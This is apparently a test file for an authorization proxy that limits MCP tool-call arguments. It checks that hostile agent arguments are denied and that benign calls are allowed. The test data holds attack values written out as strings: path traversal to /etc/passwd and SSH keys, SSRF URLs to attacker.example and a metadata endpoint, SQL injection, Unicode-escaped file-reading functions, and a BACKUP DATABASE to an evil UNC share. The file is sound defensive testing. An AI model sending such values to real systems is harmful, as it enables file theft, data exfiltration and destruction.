// The argument-constraint example (examples/arguments, docs/policies.md) through
// `mcp-authz check`: the three classic cases, which constraint denied, and never the value.
import test from 'ava';
import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseYaml, stringify as stringifyYaml } from 'yaml';
import { explain } from '../src/cli/check-command.js';
import { loadConfigFile } from '../src/config/load.js';
import { ROOT, runCli } from './helpers/cli.js';

const CONFIG = join(ROOT, 'examples', 'arguments', 'config.yaml');
const AGENT = 'mcp_xUW4CC837mhtFxthPzIWD79bgYmjWpggg112keZIdDQ4OmHSh';
const ADMIN = 'mcp_PnS6ZdO2fBchmWJozXB2KGOJutPGPCC4JxBJJbZK6PO0pCZVm';

const body = (name: string, args: Record<string, unknown>) =>
  JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } });

async function check(name: string, args: Record<string, unknown>, key = AGENT): Promise<Record<string, any>> {
  return explain(loadConfigFile(CONFIG, {}), {
    method: 'POST',
    path: '/mcp/tools',
    host: 'mcp.example.com',
    headers: [
      ['x-api-key', key],
      ['content-type', 'application/json'],
    ],
    body: body(name, args),
  });
}

const denials: [string, string, Record<string, unknown>, string, string][] = [
  ['a path out of /docs', 'read_file', { path: '/docs/../etc/passwd' }, 'path', 'path'],
  ['an encoded traversal', 'read_file', { path: '/docs/%2e%2e/etc/shadow' }, 'path', 'path'],
  [
    'one of several paths outside /docs',
    'read_multiple_files',
    { paths: ['/docs/a.md', '/home/alice/.ssh/id_ed25519'] },
    'paths',
    'items.path',
  ],
  [
    'an allowed host as user information',
    'http_get',
    { url: 'https://api.example.com@attacker.example/collect' },
    'url',
    'url',
  ],
  ['a decimal IP literal', 'http_get', { url: 'https://2852039166/latest/meta-data/' }, 'url', 'url'],
  ['a host that is not listed', 'http_get', { url: 'https://attacker.example/?to=api.example.com' }, 'url', 'url'],
  ['a method outside the enum', 'http_get', { url: 'https://api.example.com/', method: 'DELETE' }, 'method', 'enum'],
  ['a second statement', 'sql', { query: 'SELECT 1; DROP TABLE accounts' }, 'query', 'sql'],
  ['SELECT … INTO', 'sql', { query: 'SELECT * INTO stolen FROM accounts' }, 'query', 'sql'],
  ['a function that reads a file', 'sql', { query: `SELECT U&"pg_read_fil\\0065"('/etc/passwd')` }, 'query', 'sql'],
  ['a limit out of range', 'sql', { query: 'SELECT 1', limit: 100000 }, 'limit', 'maximum'],
  ['an argument the rule does not list', 'sql', { query: 'SELECT 1', database: 'admin' }, 'database', 'otherArguments'],
];

for (const [what, tool, args, argument, constraint] of denials) {
  test(`check shows ${constraint} denying ${what}, naming ${tool} and ${argument} but not the value`, async (t) => {
    const out = await check(tool, args);
    t.is(out.decision, 'deny');
    t.is(out.status, 403);
    t.is(out.body.error, 'argument_denied');
    t.deepEqual(out.policy.deniedArgument, {
      call: 0,
      method: 'tools/call',
      name: tool,
      argument,
      constraint,
      item: constraint.startsWith('items.') ? 1 : -1,
    });
    t.true(out.body.error_description.includes(`"${argument}" of tool ${tool}`), out.body.error_description);
    for (const value of Object.values(args).flat()) {
      if (typeof value === 'string' && value.length > 4)
        t.false(out.body.error_description.includes(value), `the description leaks ${value}`);
    }
  });
}

test('check allows the calls the rules admit', async (t) => {
  const allowed: [string, Record<string, unknown>][] = [
    ['read_file', { path: '/docs/handbook/intro.md' }],
    ['read_multiple_files', { paths: ['/docs/a.md', '/docs/b/c.md'] }],
    ['http_get', { url: 'https://api.example.com/v1/items?q=1' }],
    ['http_get', { url: 'https://eu.docs.example.com/page', method: 'HEAD' }],
    ['sql', { query: 'SELECT id, title FROM posts WHERE author = 7', limit: 50 }],
  ];
  for (const [tool, args] of allowed) {
    const out = await check(tool, args);
    t.is(out.decision, 'allow', `${tool} ${JSON.stringify(args)}: ${JSON.stringify(out.body)}`);
    t.is(out.policy.deniedArgument, null);
  }
});

test('a key holding the exempt grant may fetch any host; "*" alone would not exempt it', async (t) => {
  t.is((await check('http_get', { url: 'https://status.partner.example/' }, ADMIN)).decision, 'allow');
  const agent = await check('http_get', { url: 'https://status.partner.example/' });
  t.is(agent.policy.deniedArgument.constraint, 'url');
});

test('the mcp-authz check command prints the denied argument and exits 3', async (t) => {
  const res = await runCli([
    'check',
    '--config',
    CONFIG,
    '--path',
    '/mcp/tools',
    '-H',
    `x-api-key: ${AGENT}`,
    '--body',
    body('read_file', { path: '/docs/..\\..\\windows\\win.ini' }),
  ]);
  t.is(res.code, 3, res.stderr);
  const out = JSON.parse(res.stdout);
  t.is(out.reason, 'argument_denied');
  t.is(out.policy.deniedArgument.constraint, 'path');
  t.true(out.body.error_description.startsWith('Argument "path" of tool read_file'), out.body.error_description);
  t.false(JSON.stringify(out.body).includes('win.ini'), 'the deny body does not echo the value');
});

test('the rules in docs/policies.md are the ones examples/arguments runs', (t) => {
  const doc = readFileSync(join(ROOT, 'docs', 'policies.md'), 'utf8');
  const block = /<!-- examples\/arguments\/config.yaml endpoints -->\n```yaml\n([\s\S]*?)```/.exec(doc);
  t.truthy(block, 'docs/policies.md shows the example endpoint');
  const documented = parseYaml(block![1]!) as { endpoints: unknown[] };
  const example = parseYaml(readFileSync(CONFIG, 'utf8')) as { endpoints: unknown[] };
  t.deepEqual(documented.endpoints, example.endpoints);
});

test('arguments that are not an object, or a number no float holds, are 400 invalid_arguments before the policy', async (t) => {
  for (const params of [
    '{"name":"read_file","arguments":["/docs/a.md"]}',
    '{"name":"sql","arguments":{"query":"SELECT 1","limit":1e400}}',
  ]) {
    const out = (await explain(loadConfigFile(CONFIG, {}), {
      method: 'POST',
      path: '/mcp/tools',
      host: 'mcp.example.com',
      headers: [['x-api-key', AGENT]],
      body: `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":${params}}`,
    })) as Record<string, any>;
    t.is(out.status, 400, params);
    t.is(out.body.error, 'invalid_arguments');
    t.is(out.policy, null, 'decided before the policy');
  }
});

// ---------------------------------------------------------------- read-only SQL through check

// The example with its sql rule's constraint replaced: the earlier `select-only`, or a dialect.
function exampleWithSql(constraint: unknown): string {
  const dir = mkdtempSync(join(tmpdir(), 'mcp-authz-sql-'));
  const config = parseYaml(readFileSync(CONFIG, 'utf8')) as {
    endpoints: { data: { arguments: { tools: string[]; arguments: Record<string, { sql?: unknown }> }[] } }[];
  };
  for (const rule of config.endpoints[0]!.data.arguments)
    if (rule.tools.includes('sql')) rule.arguments.query!.sql = constraint;
  copyFileSync(join(ROOT, 'examples', 'arguments', 'keys.yaml'), join(dir, 'keys.yaml'));
  writeFileSync(join(dir, 'config.yaml'), stringifyYaml(config));
  return join(dir, 'config.yaml');
}

const SQL_FORMS: [string, unknown][] = [
  ['select-only', 'select-only'],
  ['dialect postgresql', { dialect: 'postgresql' }],
  ['dialect sqlserver', { dialect: 'sqlserver' }],
];

async function checkSql(config: string, query: string): Promise<Record<string, any>> {
  return explain(loadConfigFile(config, {}), {
    method: 'POST',
    path: '/mcp/tools',
    host: 'mcp.example.com',
    headers: [
      ['x-api-key', AGENT],
      ['content-type', 'application/json'],
    ],
    body: body('sql', { query }),
  });
}

const SQL_DEFECTS: [string, string[]][] = [
  [
    'a function named with Unicode escapes (pg_read_file, lo_import, set_config)',
    [
      `SELECT U&"pg_read_fil\\0065"('/etc/passwd')`,
      `SELECT U&"pg_read_fil!0065" UESCAPE '!'('/etc/passwd')`,
      `SELECT U&"lo_\\0069mport"('/etc/passwd')`,
      `SELECT U&"set_confi\\0067"('default_transaction_read_only','off',false)`,
    ],
  ],
  [
    'a T-SQL statement after a SELECT without ";"',
    [
      "SELECT 1 BACKUP DATABASE master TO DISK = '\\\\evil\\share\\m.bak'",
      'SELECT 1 DENY SELECT ON accounts TO public',
      'SELECT 1 DISABLE TRIGGER ALL ON accounts',
      'SELECT 1 DBCC CHECKDB',
      'SELECT 1 RECONFIGURE',
      "SELECT 1 RESTORE DATABASE master FROM DISK = 'm.bak'",
    ],
  ],
  [
    'a keyword glued to a number',
    ['SELECT 1into stolen FROM accounts', 'SELECT 1.0into stolen FROM accounts', 'SELECT 1e1into stolen FROM accounts'],
  ],
  ['a row-locking clause', ['SELECT * FROM accounts FOR SHARE', 'SELECT * FROM accounts FOR KEY SHARE']],
];

for (const [form, constraint] of SQL_FORMS) {
  for (const [what, queries] of SQL_DEFECTS) {
    // A PostgreSQL endpoint's queries are read as PostgreSQL reads them: `SELECT 1 RECONFIGURE`
    // is a column named reconfigure there. T-SQL is the concern of the other forms.
    if (what.includes('T-SQL') && form === 'dialect postgresql') continue;
    test(`check refuses ${what} under sql: ${form}`, async (t) => {
      const config = exampleWithSql(constraint);
      for (const query of queries) {
        const out = await checkSql(config, query);
        t.is(out.decision, 'deny', `${query}: ${JSON.stringify(out.body)}`);
        t.is(out.policy?.deniedArgument?.constraint, 'sql', query);
      }
    });
  }
  test(`check allows a plain SELECT under sql: ${form}`, async (t) => {
    const out = await checkSql(exampleWithSql(constraint), 'SELECT id, title FROM posts WHERE author = 7 ORDER BY id');
    t.is(out.decision, 'allow', JSON.stringify(out.body));
  });
}
